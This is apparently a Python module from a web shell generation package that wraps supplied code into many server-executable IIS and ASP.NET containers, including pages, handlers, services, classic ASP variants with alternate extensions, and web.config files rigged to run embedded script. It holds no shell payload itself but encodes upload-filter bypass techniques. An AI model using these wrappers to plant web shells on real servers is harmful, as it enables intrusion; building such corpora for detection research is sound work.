"""What holds the statements: pages, handlers, services, scripts, configuration."""

import re
from collections.abc import Callable

from webshells.pieces import SENTINEL, Body

Wrapped = tuple[str, str]
"""The extension that makes the server run it (or a whole file name), and the text."""
Wrapper = Callable[[Body], Wrapped]

_OBJECTS = re.compile(
    r"(?<![\w.\"\\$])(?:(?:Page|this|Me|Context)\.)?(Request|Response|Server|Session)(?=\s*[.(\[!,])"
)


def _objects(text: str, holder: str) -> str:
    """Name the objects of the request as code outside a page must."""
    made = _OBJECTS.sub(rf"{holder}.\1", text)
    return re.sub(r"(?<![\w.])Context(?=\.|\))", holder, made)


def _code(body: Body) -> str:
    return f"{body.code}\n{SENTINEL[body.language]}"


def _imports(body: Body, form: str) -> str:
    return "".join(form.format(name) + "\n" for name in body.imports)


def _directives(body: Body, first: str) -> str:
    plain = [name for name in body.imports if " = " not in name]
    imports = "".join(f'<%@ Import Namespace="{name}" %>\n' for name in plain)
    return f"{first}\n{imports}"


def _aliases(body: Body) -> bool:
    return any(" = " in name for name in body.imports)


def _block(inside: str, language: str = "") -> str:
    words = f' language="{language}"' if language else ""
    return f'<script{words} runat="server">\n{inside}\n</script>\n' if inside.strip() else ""


def _form(body: Body) -> str:
    return f'<html><body><form id="form1" runat="server">\n{body.markup}\n</form></body></html>\n'


def _language(body: Body) -> str:
    return {"C#": "C#", "VB": "VB", "JScript": "Jscript", "VBScript": "VBScript"}[body.language]


def _page(body: Body) -> str:
    return _directives(body, f'<%@ Page Language="{_language(body)}" Debug="false" %>')


def inline(body: Body) -> Wrapped:
    form = _form(body) if body.markup else ""
    return ".aspx", f"{_page(body)}{_block(body.members)}{form}<%\n{_code(body)}\n%>\n"


def short_page(body: Body) -> Wrapped:
    """Write a page without its name, as the short known shells do."""
    first = f'<%@Page Language="{_language(body)}"%>'
    return ".aspx", f"{_directives(body, first).strip()}{_block(body.members)}<%{_code(body)}%>"


def _method(body: Body, name: str) -> str:
    if body.language == "VB":
        takes = "ByVal sender As Object, ByVal e As EventArgs"
        return f"{body.members}\nSub {name}({takes})\n{_code(body)}\nEnd Sub"
    if body.language == "JScript":
        return f"{body.members}\nfunction {name}(sender, e) {{\n{_code(body)}\n}}"
    takes = "object sender, EventArgs e"
    return f"{body.members}\nprotected void {name}({takes}) {{\n{_code(body)}\n}}"


def load(body: Body) -> Wrapped:
    return ".aspx", _page(body) + _block(_method(body, "Page_Load")) + _form(body)


def click(body: Body) -> Wrapped:
    markup = body.markup or '<asp:Button id="Go" runat="server" OnClick="Go_Click" Text="Go" />'
    form = _form(body).replace(f"\n{body.markup}\n", f"\n{markup}\n", 1)
    return ".aspx", _page(body) + form + _block(_method(body, "Go_Click"))


def unnamed_language(body: Body) -> Wrapped:
    """Name the language in the script block only."""
    first = _directives(body, "<%@ Page %>")
    return ".aspx", first + _block(_method(body, "Page_Init"), _language(body)) + _form(body)


def no_directive(body: Body) -> Wrapped:
    """Write no directive of the page: the language is the site's own, or the block's."""
    imports = _directives(body, "").lstrip()
    return ".aspx", imports + _block(_method(body, "Page_Load"), _language(body))


def overrides(body: Body) -> Wrapped:
    code = f"protected override void OnInit(EventArgs e) {{\n{_code(body)}\n}}\n{body.members}"
    return ".aspx", _page(body) + _block(code) + _form(body)


def control(body: Body) -> Wrapped:
    first = _directives(body, '<%@ Control Language="C#" ClassName="Panel1" %>')
    return ".ascx", first + body.markup + _block(_method(body, "Page_Load"))


def _class(body: Body, heading: str, inside: str) -> str:
    return f"{_imports(body, 'using {};')}\n{heading} {{\n{inside}\n{body.members}\n}}\n"


def _outside(body: Body, holder: str) -> Body:
    return Body(
        body.technique,
        body.form,
        body.language,
        _objects(body.code, holder),
        _objects(body.members, "HttpContext.Current"),
        ("System", "System.Web", *body.imports),
    )


def handler(body: Body) -> Wrapped:
    made = _outside(body, "context")
    if body.language == "VB":
        inside = (
            f"Public Sub ProcessRequest(ByVal context As HttpContext) "
            f"Implements IHttpHandler.ProcessRequest\n{_code(made)}\nEnd Sub\n{made.members}"
        )
        text = (
            f'<%@ WebHandler Language="VB" Class="Part" %>\n{_imports(made, "Imports {}")}'
            f"Public Class Part : Implements IHttpHandler\n{inside}\nEnd Class\n"
        )
        return ".ashx", text
    if body.language == "JScript":
        text = (
            '<%@ WebHandler Language="JScript" class="Part"%>\n'
            f"{_imports(made, 'import {};')}public class Part implements IHttpHandler {{\n"
            f"function IHttpHandler.ProcessRequest(context : HttpContext) {{\n{_code(made)}\n}}\n"
            "function get IHttpHandler.IsReusable() : Boolean { return true; }\n}\n"
        )
        return ".ashx", text
    inside = (
        f"public void ProcessRequest(HttpContext context) {{\n{_code(made)}\n}}\n"
        "public bool IsReusable { get { return false; } }"
    )
    first = '<%@ WebHandler Language="C#" Class="Part" %>\n'
    return ".ashx", first + _class(made, "public class Part : IHttpHandler", inside)


def async_handler(body: Body) -> Wrapped:
    made = _outside(body, "context")
    inside = (
        "public IAsyncResult BeginProcessRequest(HttpContext context, AsyncCallback call, object o)"
        f" {{\n{_code(made)}\nreturn null;\n}}\npublic void EndProcessRequest(IAsyncResult r) {{ }}"
    )
    first = '<%@ WebHandler Language="C#" Class="Part" %>\n'
    return ".ashx", first + _class(made, "public class Part : IHttpAsyncHandler", inside)


def task_handler(body: Body) -> Wrapped:
    made = _outside(body, "context")
    inside = (
        "public override async System.Threading.Tasks.Task ProcessRequestAsync("
        f"HttpContext context) {{\n{_code(made)}\n}}"
    )
    first = '<%@ WebHandler Class="Part" Language="C#" %>\n'
    return ".ashx", first + _class(made, "public class Part : HttpTaskAsyncHandler", inside)


def service(body: Body) -> Wrapped:
    made = _outside(body, "Context")
    if body.language == "VB":
        text = (
            f'<%@ WebService Language="VB" Class="Part" %>\n{_imports(made, "Imports {}")}'
            "Public Class Part : Inherits System.Web.Services.WebService\n"
            f"<System.Web.Services.WebMethod()> Public Function Show() As String\n{_code(made)}\n"
            f"End Function\n{made.members}\nEnd Class\n"
        )
        return ".asmx", text
    inside = f"[WebMethod(EnableSession = true)]\npublic string Show() {{\n{_code(made)}\n}}"
    heading = '[WebService(Namespace = "http://tempuri.org/")]\npublic class Part : WebService'
    first = '<%@ WebService Language="C#" Class="Part" %>\nusing System.Web.Services;\n'
    return ".asmx", first + _class(made, heading, inside)


def service_of_parameters(body: Body) -> Wrapped:
    """Take the stranger's words as parameters of the operation; `$(name)` are still in place."""
    return _operation(body, ".asmx", '<%@ WebService Language="C#" Class="Part" %>')


def soap(body: Body) -> Wrapped:
    return _operation(body, ".soap", '<%@ webservice language="C#" class="Part" %>')


def _operation(body: Body, extension: str, first: str) -> Wrapped:
    made = _outside(body, "Context")
    inside = f"[WebMethod]\npublic string Show({_taken(made)}) {{\n{_code(made)}\nreturn null;\n}}"
    heading = '[WebService(Namespace = "http://tempuri.org/")]\npublic class Part : WebService'
    first += "\nusing System.Web.Services;\n"
    return extension, first + _class(made, heading, inside)


def _taken(body: Body) -> str:
    names = dict.fromkeys(re.findall(r"\bp_(\w+)\b", body.code + body.members))
    return ", ".join(f"string p_{name}" for name in names)


def hosted(body: Body) -> Wrapped:
    made = _outside(body, "HttpContext.Current")
    inside = f"public string Show({_taken(made)}) {{\n{_code(made)}\nreturn null;\n}}"
    text = (
        '<%@ ServiceHost Language="C#" Service="Part" %>\nusing System.ServiceModel;\n'
        + _imports(made, "using {};")
        + "[ServiceContract] public interface IPart { [OperationContract] "
        f"string Show({_taken(made)}); }}\n"
        f"public class Part : IPart {{\n{inside}\n{made.members}\n}}\n"
    )
    return ".svc", text


def application(body: Body) -> Wrapped:
    first = _directives(body, '<%@ Application Language="C#" %>')
    return "global.asax", first + _block(_method(body, "Application_BeginRequest"))


def razor(body: Body) -> Wrapped:
    uses = "".join(f"@using {name}\n" for name in body.imports)
    functions = f"@functions {{\n{body.members}\n}}\n" if body.members.strip() else ""
    return ".cshtml", f"{uses}{functions}@{{\n{_code(body)}\n}}\n<p>@DateTime.Now</p>\n"


def classic(body: Body) -> Wrapped:
    members = f"{body.members}\n" if body.members.strip() else ""
    return ".asp", f"<%\n{members}{_code(body)}\n%>\n"


def classic_short(body: Body) -> Wrapped:
    members = f"{body.members}\n" if body.members.strip() else ""
    return ".cer", f"<%{members}{_code(body)}%>"


def classic_language(body: Body) -> Wrapped:
    members = f"{body.members}\n" if body.members.strip() else ""
    return ".asa", f'<%@ Language="VBScript" %>\n<html><%\n{members}{_code(body)}\n%></html>'


def classic_block(body: Body) -> Wrapped:
    inside = f"{body.members}\n{_code(body)}"
    return ".cdx", _block(inside, "vbscript")


def classic_open(body: Body) -> Wrapped:
    return ".asp", f"{_code(body)}\n%>\n"


def classic_jscript(body: Body) -> Wrapped:
    return ".asp", f'<%@ language="JScript" %>\n<%\n{_code(body)}\n%>\n'


def configuration(body: Body) -> Wrapped:
    """Write a configuration that hands itself to the engine of classic ASP."""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<configuration><system.webServer>\n'
        '<handlers accessPolicy="Read, Script, Write">\n<add name="web_config" path="*.config" '
        'verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" '
        'resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" />\n'
        "</handlers>\n"
        '<security><requestFiltering><fileExtensions><remove fileExtension=".config" />'
        '</fileExtensions><hiddenSegments><remove segment="web.config" /></hiddenSegments>'
        "</requestFiltering></security>\n</system.webServer></configuration>\n"
        f"<!--\n<%\n{body.members}\n{_code(body)}\n%>\n-->"
    )
    return "web.config", text


def configuration_dotnet(body: Body) -> Wrapped:
    """Write a configuration that hands itself to the page compiler."""
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<configuration><system.web><compilation '
        'defaultLanguage="cs"><buildProviders><add extension=".config" '
        'type="System.Web.Compilation.PageBuildProvider" /></buildProviders></compilation>'
        '<httpHandlers><add path="web.config" type="System.Web.UI.PageHandlerFactory" verb="*" />'
        '</httpHandlers></system.web><system.webServer><handlers><add name="web_config" '
        'path="web.config" verb="*" type="System.Web.UI.PageHandlerFactory" modules='
        '"ManagedPipelineHandler" requireAccess="Script" preCondition="integratedMode" />'
        "</handlers></system.webServer></configuration>\n"
        f"<!--\n{_block(body.members)}<%\n{_code(body)}\n%>\n-->"
    )
    return "web.config", text


_PAGES: dict[str, Wrapper] = {
    "inline": inline,
    "load": load,
    "click": click,
    "short": short_page,
    "unnamed-language": unnamed_language,
    "no-directive": no_directive,
}
WRAPPERS: dict[str, dict[str, Wrapper]] = {
    "C#": _PAGES
    | {
        "overrides": overrides,
        "control": control,
        "handler": handler,
        "async-handler": async_handler,
        "task-handler": task_handler,
        "service": service,
        "service-parameters": service_of_parameters,
        "soap": soap,
        "hosted-service": hosted,
        "application": application,
        "razor": razor,
        "configuration-page": configuration_dotnet,
    },
    "VB": _PAGES | {"handler": handler, "service": service},
    "JScript": _PAGES | {"handler": handler, "asp-jscript": classic_jscript},
    "VBScript": {
        "asp": classic,
        "cer": classic_short,
        "asa": classic_language,
        "cdx": classic_block,
        "asp-open": classic_open,
        "configuration": configuration,
    },
}
OF_PARAMETERS = ("service-parameters", "soap", "hosted-service")
OF_A_PAGE = frozenset(_PAGES) | {"overrides", "control"}
CLASSIC_ONLY = ("asp-open", "asp-jscript")


def fitting(body: Body) -> list[str]:
    """Name the wrappers that can hold a body."""
    if body.wrappers:
        return list(body.wrappers)
    names = [name for name in WRAPPERS[body.language] if name not in CLASSIC_ONLY]
    if body.markup:
        return [name for name in names if name in ("load", "click", "control")]
    if _aliases(body):
        return ["handler", "async-handler", "service", "razor"]
    if "class " in body.members or "DllImport" in body.members:
        return [name for name in names if name in ("load", "inline", "handler", "click")]
    if body.members.strip():
        return [name for name in names if name != "no-directive" or body.language != "C#"]
    return names
